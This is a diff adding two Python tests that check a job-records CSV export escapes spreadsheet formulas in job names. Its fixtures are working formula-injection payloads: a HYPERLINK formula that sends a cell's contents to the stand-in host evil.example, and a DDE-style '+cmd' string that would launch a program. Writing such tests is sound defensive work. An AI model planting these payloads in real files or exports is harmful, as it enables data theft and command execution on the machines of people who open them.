@@ -106,3 +106,24 @@ def test_a_failed_run_keeps_its_exit_code_and_a_retry_its_attempt(api, member, t
     rows = api.get(RECORDS, {"format": "json"}).json()["results"]
 
     assert [(r["attempt"], r["outcome"], r["exit_code"]) for r in rows] == [(2, "failed", 3), (1, "node_lost", None)]
+
+
+def test_csv_neutralises_a_job_name_that_a_spreadsheet_would_run(api, member, team, released):
+    released(member, team, name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
+
+    response = api.get(RECORDS, {"format": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert rows[0]["job_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_the_operators_all_team_csv_neutralises_every_teams_names(
+    member, team, outsider, other_team, operator, released
+):
+    released(member, team, name="+cmd|' /C calc'!A0")
+    released(outsider, other_team, name="\t=1+1")
+
+    response = api_client_for(operator).get(RECORDS, {"format": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted((r["team"], r["job_name"]) for r in rows) == [("blue", "'\t=1+1"), ("red", "'+cmd|' /C calc'!A0")]
